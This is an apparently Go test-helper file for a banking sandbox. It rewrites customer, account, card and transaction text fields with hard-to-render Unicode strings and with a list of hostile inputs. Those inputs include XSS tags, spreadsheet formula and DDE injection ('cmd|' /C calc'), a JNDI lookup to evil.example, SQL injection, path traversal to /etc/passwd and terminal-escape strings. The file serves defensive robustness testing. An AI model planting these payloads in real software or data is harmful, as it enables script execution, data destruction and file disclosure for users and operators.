package sandbox

import (
	"strings"

	"aisdesk/localserver/sandbox/bank"
)

// unicodeTexts are honest texts that are hard to lay out.
var unicodeTexts = []string{
	"Zażółć gęślą jaźń", "Příliš žluťoučký kůň úpěl", "Ångström & Çelik GmbH", "株式会社サンプル銀行", "김민준 급여", "Ελληνική Τράπεζα",
	"Счёт № 40817", "بنك الاختبار", "חשבון בדיקה", "e\u0301te\u0301 a\u0308 n\u0303", "👩\u200d👩\u200d👧 rodzina 🇵🇱", "ﬁnance ½ ‰ €", "İstanbul ıI", "ﾊﾝｶｸ ｶﾅ", "ไทยพาณิชย์", "ßẞ ǅ ŉ",
}

// hostileTexts attack whoever shows, exports or parses them. They are all characters that XML 1.0 allows.
var hostileTexts = []string{
	`<script>alert(document.domain)</script>`, `"><img src=x onerror=alert(1)>`, `]]> &amp; &lt; &#x1b;[31m`, `=HYPERLINK("http://evil.example","click")`,
	"+48 600 000 000 |calc", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "＝1+1", "\t=1+1", "\u009b31mred\u009b0m", "\u009d0;title\u009c", "\u202eDEBIRCS\u202c \u2066x\u2069", "pay\u200bpal\u2060\ufeff",
	"Z" + strings.Repeat("\u0301", 60) + "algo", "line one\nline two\r\nline three", "a\u2028b\u2029c\u0085d", strings.Repeat("W", 3000), strings.Repeat("漢", 500), "../../../../etc/passwd", "%s%n%x {{.}} ${jndi:ldap://evil.example/a}",
	"'; DROP TABLE imports; --", "\u0000NUL \u001b[2J ESC as the letters \\u001b[2J", "file:///etc/passwd", "\ufffe\uffff\U0010ffff", "   spaces   around   ",
}

// rewrite replaces every text of a customer, going through the texts in turn. Numbers, dates and IBANs stay.
func rewrite(c *bank.Customer, texts []string) *bank.Customer {
	n := 0
	next := func(s *string) {
		if *s != "" {
			*s = texts[n%len(texts)]
			n++
		}
	}
	cut := *c
	cut.Owners = owners(c.Owners, next)
	cut.Accounts = append([]bank.Account(nil), c.Accounts...)
	for i := range cut.Accounts {
		a := &cut.Accounts[i]
		next(&a.Name)
		next(&a.FriendlyName)
		a.Owners, a.Transactions = owners(a.Owners, next), rows(a.Transactions, next)
	}
	cut.Cards = append([]bank.Card(nil), c.Cards...)
	for i := range cut.Cards {
		k := &cut.Cards[i]
		next(&k.Name)
		next(&k.Number)
		k.Owners, k.Transactions = owners(k.Owners, next), rows(k.Transactions, next)
	}
	return &cut
}

func owners(list []bank.Owner, next func(*string)) []bank.Owner {
	list = append([]bank.Owner(nil), list...)
	for i := range list {
		o := &list[i]
		for _, s := range []*string{&o.Name, &o.Address, &o.Phone, &o.Email, &o.DocumentType, &o.DocumentNumber, &o.BirthPlace} {
			next(s)
		}
	}
	return list
}

func rows(list []bank.Transaction, next func(*string)) []bank.Transaction {
	list = append([]bank.Transaction(nil), list...)
	for i := range list {
		t := &list[i]
		next(&t.Title)
		next(&t.Party)
		next(&t.Kind)
		t.Labels = append([]string(nil), t.Labels...)
		for j := range t.Labels {
			next(&t.Labels[j])
		}
	}
	return list
}
